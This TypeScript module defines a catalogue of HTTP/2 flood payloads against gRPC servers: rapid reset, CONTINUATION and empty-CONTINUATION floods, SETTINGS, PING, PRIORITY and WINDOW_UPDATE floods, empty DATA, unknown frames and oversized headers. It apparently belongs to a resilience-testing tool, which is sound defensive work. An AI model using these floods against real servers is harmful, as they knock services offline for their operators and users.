import {
  FrameType,
  frame,
  grpcHeaders,
  headerBlock,
  headers,
  ping,
  rstStream,
  settings,
  windowUpdate,
} from './frames.js';

/** Frames that come to nothing, one after the other; each chunk is one write. */
export interface Flood {
  readonly name: string;
  /** @param index of the chunk, from 0. @param path of a method that is called, if calls are made. */
  chunk(index: number, path: string): Uint8Array;
  /** Of what is counted (streams, frames), how many are in a chunk. */
  readonly perChunk: number;
}

const BATCH = 50;

/** Floods with frames of HTTP/2 that cost the server more than the client, by what they are known as. */
export const FLOODS: readonly Flood[] = [
  repeated('rapid reset', (index, path) => {
    const stream = index * 2 + 1;
    return Buffer.concat([headers(stream, grpcHeaders(path)), rstStream(stream)]);
  }),
  {
    name: 'CONTINUATION',
    perChunk: 1,
    chunk: (index, path) =>
      index === 0
        ? frame(FrameType.headers, 0, 1, headerBlock(grpcHeaders(path)))
        : frame(FrameType.continuation, 0, 1, headerBlock([[`x-${index}`, 'x'.repeat(1_000)]])),
  },
  {
    name: 'empty CONTINUATION',
    perChunk: BATCH,
    chunk: (index, path) =>
      Buffer.concat([
        ...(index === 0 ? [frame(FrameType.headers, 0, 1, headerBlock(grpcHeaders(path)))] : []),
        ...Array.from({ length: BATCH }, () => frame(FrameType.continuation, 0, 1)),
      ]),
  },
  repeated('SETTINGS', () => settings([0x4, 65_535])),
  repeated('PING', ping),
  repeated('PRIORITY', (index) => frame(FrameType.priority, 0, index * 2 + 1, Buffer.from([0, 0, 0, 0, 15]))),
  repeated('WINDOW_UPDATE', () => windowUpdate(0, 1)),
  {
    name: 'empty DATA',
    perChunk: BATCH,
    chunk: (index, path) =>
      Buffer.concat([
        ...(index === 0 ? [headers(1, grpcHeaders(path))] : []),
        ...Array.from({ length: BATCH }, () => frame(FrameType.data, 0, 1)),
      ]),
  },
  repeated('unknown frames', () => frame(0xfa, 0xff, 0)),
  // Each call is answered with an error, by whoever is called.
  repeated('calls of nothing', (index) => headers(index * 2 + 1, grpcHeaders('/no.Service/None'), true)),
  repeated('calls with another content type', (index) =>
    headers(index * 2 + 1, [
      [':method', 'POST'],
      [':scheme', 'http'],
      [':path', '/'],
      [':authority', 'localhost'],
      ['content-type', 'text/plain'],
    ]),
  ),
  {
    name: 'large header fields',
    perChunk: 1,
    chunk: (index, path) =>
      headers(index * 2 + 1, grpcHeaders(path, [['x-large', 'x'.repeat(16_000)]]), true),
  },
];

function repeated(name: string, make: (index: number, path: string) => Uint8Array): Flood {
  return {
    name,
    perChunk: BATCH,
    chunk: (index, path) =>
      Buffer.concat(Array.from({ length: BATCH }, (_, i) => make(index * BATCH + i, path))),
  };
}
